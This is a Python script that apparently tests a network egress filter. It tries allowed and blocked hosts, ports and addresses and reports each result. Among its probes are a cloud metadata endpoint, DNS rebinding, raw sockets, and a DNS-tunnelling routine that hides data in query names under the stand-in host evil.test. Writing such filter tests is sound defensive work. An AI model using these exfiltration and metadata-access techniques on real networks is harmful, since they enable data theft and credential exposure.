"""Calls whom it may and whom it may not; prints a line for each attempt. Then waits for late.test
to be allowed, holds a call, and says when that is cut."""
import errno
import socket
import struct
import time


def attempt(name, action):
    try:
        outcome = action()
    except socket.gaierror as error:
        outcome = {socket.EAI_NONAME: "EAI_NONAME"}.get(error.errno, error)
    except OSError as error:
        outcome = errno.errorcode.get(error.errno, error)
    print(name, outcome, flush=True)


def call(host, port):
    connection = socket.create_connection((host, port), 15)
    if connection.recv(100) != b"upstream\n":
        raise OSError("no greeting")
    return connection


def greet(host, port, family=socket.AF_INET):
    def action():
        with socket.socket(family) as connection:
            connection.settimeout(15)
            connection.connect((host, port))
            return "ok" if connection.recv(100) == b"upstream\n" else "EOF"
    return action


def named(host, port):
    def action():
        call(host, port).close()
        return "ok"
    return action


def half_close():
    with call("allowed.test", 443) as connection:
        data = b"x" * 300000
        received = b""
        connection.settimeout(15)
        sent = 0
        while sent < len(data):
            sent += connection.send(data[sent:sent + 10000])
            received += connection.recv(65536)
        connection.shutdown(socket.SHUT_WR)
        while True:
            more = connection.recv(65536)
            if not more:
                return "ok" if received == data + b"bye\n" else len(received)
            received += more


def question(name, kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)


def tunnel():
    """Questions that carry data in names, below a name that is not allowed and below one that is;
    how many of the former were answered with anything."""
    answered = 0
    for resolver in ("127.0.0.53", "127.0.0.1", "8.8.8.8", "10.99.1.3"):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.settimeout(5)
            client.connect((resolver, 53))
            for number in range(20):
                label = "%060d" % number
                for name in (label + ".evil.test", ".".join([label] * 3) + ".allowed.test"):
                    for kind in (1, 10, 16, 28):
                        client.send(question(name, kind))
                        answer = client.recv(4096)
                        if name.endswith("evil.test"):
                            answered += answer[3] & 15 != 3 or answer[6:8] != b"\0\0"
    return answered


def by_tcp():
    with socket.create_connection(("127.0.0.53", 53), 5) as client:
        packet = question("allowed.test", 1)
        client.sendall(struct.pack(">H", len(packet)) + packet)
        answer = client.recv(4096)
        return "ok" if answer[-4:-2] in (b"\xc6\x12", b"\xc6\x13") else answer


def udp(family, address):
    def action():
        with socket.socket(family, socket.SOCK_DGRAM) as client:
            client.connect(address)
            client.send(b"x")
        return "ok"
    return action


print("started once", flush=True)
attempt("allowed_name", named("allowed.test", 443))
attempt("allowed_below", named("a.wild.test", 443))
attempt("allowed_literal", greet("10.99.1.2", 8443))
attempt("allowed_mapped", greet("::ffff:10.99.1.2", 8443, socket.AF_INET6))
attempt("half_close", half_close)
attempt("names_by_tcp", by_tcp)
attempt("other_port", named("allowed.test", 80))
attempt("other_name", named("refused.test", 443))
attempt("other_literal", greet("10.99.1.2", 80))
attempt("stale_synthetic", greet("198.19.200.200", 443))
attempt("metadata_literal", greet("169.254.169.254", 80))
attempt("metadata_name", named("meta.test", 80))
attempt("rebind", named("rebind.test", 9999))
attempt("own_name", named("self.test", 9999))
attempt("own_literal", greet("10.99.1.1", 9999))
attempt("camera_name", named("camera.test", 554))
attempt("camera_literal", greet("10.99.1.77", 554))
attempt("camera_by_name", named("named-camera.test", 554))
attempt("camera_of_a_name", greet("10.99.1.78", 554))
attempt("host_loopback", greet("127.0.0.1", 9999))
attempt("other_instance", greet("127.0.0.1", 7000))
attempt("flip_first", named("flip.test", 443))
attempt("flip_second", named("flip.test", 443))
attempt("tunnel", tunnel)
attempt("udp", udp(socket.AF_INET, ("10.99.1.9", 123)))
attempt("udp6", udp(socket.AF_INET6, ("fd99:1::2", 53)))
attempt("tcp6", greet("fd99:1::2", 443, socket.AF_INET6))
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
print("done yes", flush=True)
while True:
    try:
        held = call("late.test", 443)
        break
    except OSError:
        time.sleep(0.2)
print("late ok", flush=True)
held.settimeout(60)
attempt("held", lambda: held.recv(100))
time.sleep(1000)
